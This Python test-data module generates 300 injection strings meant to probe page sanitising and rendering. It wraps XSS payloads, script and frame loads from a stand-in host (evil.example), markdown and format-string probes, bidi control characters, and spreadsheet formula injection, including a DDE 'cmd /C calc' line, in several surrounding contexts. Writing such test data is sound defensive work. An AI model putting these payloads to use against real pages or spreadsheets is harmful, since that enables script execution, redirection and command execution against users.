"""Three hundred texts that a careless page would run, fetch, style, typeset or let run into their neighbours."""

from __future__ import annotations

EVIL = "https://evil.example"
RUN = "window.ran=1"
BARE = (
    # scripts and handlers
    f"<script>{RUN}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={EVIL}/x.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src={EVIL}/x.mp3 autoplay onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href=' javascript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<form action={EVIL}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<isindex action=javascript:{RUN}>",
    f"<math href=javascript:{RUN}>x</math>",
    # frames, documents, metadata
    f"<iframe src={EVIL}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={EVIL}/x></object>",
    f"<embed src={EVIL}/x>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<!-- --><h1>x</h1><!--",
    # styles and layout
    "<style>*{display:none}</style>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<div style='position:fixed;inset:0;background:url({EVIL}/x.png)'>x</div>",
    "<p style=color:red;font-size:99px>x</p>",
    "</div></section></main><h1>x</h1>",
    "</style></script></title></textarea><b>x",
    "<table><tr><td>x</table></table>",
    "<details open><summary>x</summary>y</details>",
    "<bdo dir=rtl>abc</bdo>",
    "<html dir=ltr lang=en>",
    # typesetting
    f"![x]({EVIL}/x.png) **b** _i_ ~~s~~",
    f"[x](javascript:{RUN})",
    ":red[x] :material/home: :smile:",
    "$x^2$ and $$y$$ 5$ و 10$",
    "\\(x\\) \\[y\\] \\begin{x}",
    "`code` ```x```",
    "# x\t> y\t- z\t1. w",
    "| a | b |",
    "{b} {{c}} {@[0]} {0.__class__}",
    "%s %(x)s %{text} %{customdata[0]}",
    # order, spreadsheets, escapes
    "\u202eabc\u202c",
    "\u202dابج",
    "\u2066abc",
    "\u2067abc\u2069\u2069",
    "abc\u200f\u200e\u061c",
    f'=HYPERLINK("{EVIL}","x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "&lt;script&gt; &amp;lt; &#60;b&#62;",
    "%3Cscript%3E \\u003cscript\\u003e",
)
AROUND = ("{0}", "قال {0} أمس", '">{0}', "'>{0}<b", "</bdi></a></p>{0}")
PAYLOADS = tuple(around.replace("{0}", bare) for bare in BARE for around in AROUND)
